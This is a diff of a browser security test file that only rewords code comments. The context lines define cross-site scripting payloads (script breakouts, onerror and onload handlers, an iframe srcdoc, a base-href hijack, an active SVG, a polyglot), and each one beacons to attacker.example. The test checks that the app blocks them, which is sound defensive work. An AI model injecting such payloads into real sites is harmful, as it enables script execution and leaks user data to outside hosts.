@@ -11,7 +11,7 @@ import { test } from '../../support/browser.ts';
 import { listFrom, newPost } from '../../support/posts.ts';
 import { deletePost } from '../../support/stored-items.ts';
 
-/** What each attack calls where it runs. It also asks the attacker's site for a picture. */
+/** The call of each attack, if it runs. It also requests a picture from the attacker's site. */
 const act = (from: string) => `attacked('${from}');new Image().src='https://attacker.example/${from}'`;
 const markup = (from: string) =>
   `</title></script><script>${act(from)}</script>"'><img src=x onerror="${act(from)}"><svg onload="${act(from)}">`;
@@ -30,7 +30,7 @@ const content = [
   `<iframe srcdoc="<script>parent.${act('frame')}</script>"></iframe><base href="https://attacker.example/">`,
 ].join('\n\n');
 
-/** An SVG that acts when it is opened as a page, or where pictures could run scripts. */
+/** An SVG with scripts that run when it is opened as a page, or where pictures may run scripts. */
 const activeSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="12" height="6" onload="top.${act('svg')}"><script>top.${act('svg script')}</script><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="top.${act('svg html')}"/></foreignObject><image href="https://attacker.example/svg"/></svg>`;
 /** The code is in a comment of the picture, and the picture is in a comment of the code. */
 const polyglotCode = `*/=1;${act('polyglot')}//`;
@@ -69,7 +69,7 @@ afterAll(async () => {
   await Promise.all([post.slug, longest.slug].map(deletePost));
 });
 
-/** Watches for anything that an attack did: calls, dialogs, requests, and scripts that the policy blocked. */
+/** Watches for effects of an attack: calls, dialogs, requests, and scripts that the policy blocked. */
 async function guard(page: Page): Promise<string[]> {
   const acts: string[] = [];
   await page.exposeFunction('attacked', (from: string) => void acts.push(`ran: ${from}`));
@@ -96,7 +96,7 @@ async function guard(page: Page): Promise<string[]> {
   return acts;
 }
 
-/** Loads what is below, hovers and focuses everything, and lets what this started run. */
+/** Loads lazy content, hovers and focuses everything, and waits for the effects. */
 const touch = (page: Page) =>
   page.evaluate(async () => {
     for (const element of document.querySelectorAll<HTMLElement>('*')) {
